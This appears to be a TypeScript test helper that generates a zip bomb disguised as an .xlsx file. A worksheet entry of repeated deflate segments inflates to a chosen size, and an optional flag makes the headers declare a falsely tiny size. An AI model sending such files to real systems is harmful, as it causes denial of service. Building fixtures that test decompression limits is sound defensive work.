// A zip bomb shaped as an .xlsx: its worksheet inflates to `inflatedBytes` from about a
// thousandth of that. Built in milliseconds: a full-flushed deflate segment repeats
// byte for byte. `lie` makes the headers declare a tiny size, as a hostile file would.
import zlib from 'node:zlib';

const SMALL_PARTS: Record<string, string> = {
  '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
  '_rels/.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
  'xl/workbook.xml': '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
};

interface Entry {
  name: Buffer;
  method: number;
  data: Buffer;
  crc: number;
  size: number;
}

export function xlsxBomb(inflatedBytes: number, options: { lie?: boolean } = {}): Buffer {
  const segment = zlib.deflateRawSync(Buffer.alloc(1 << 20, 32), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const copies = Math.ceil(inflatedBytes / (1 << 20));
  const bomb = Buffer.concat([...Array.from({ length: copies }, () => segment), Buffer.from([0x03, 0x00])]);
  const entries: Entry[] = Object.entries(SMALL_PARTS).map(([name, text]) => ({ name: Buffer.from(name), method: 0, data: Buffer.from(text), crc: zlib.crc32(text), size: Buffer.byteLength(text) }));
  entries.push({ name: Buffer.from('xl/worksheets/sheet1.xml'), method: 8, data: bomb, crc: 0, size: options.lie ? 1000 : copies << 20 });
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size >>> 0, 22);
    local.writeUInt16LE(e.name.length, 26);
    locals.push(local, e.name, e.data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.size >>> 0, 24);
    central.writeUInt16LE(e.name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, e.name);
    offset += 30 + e.name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}
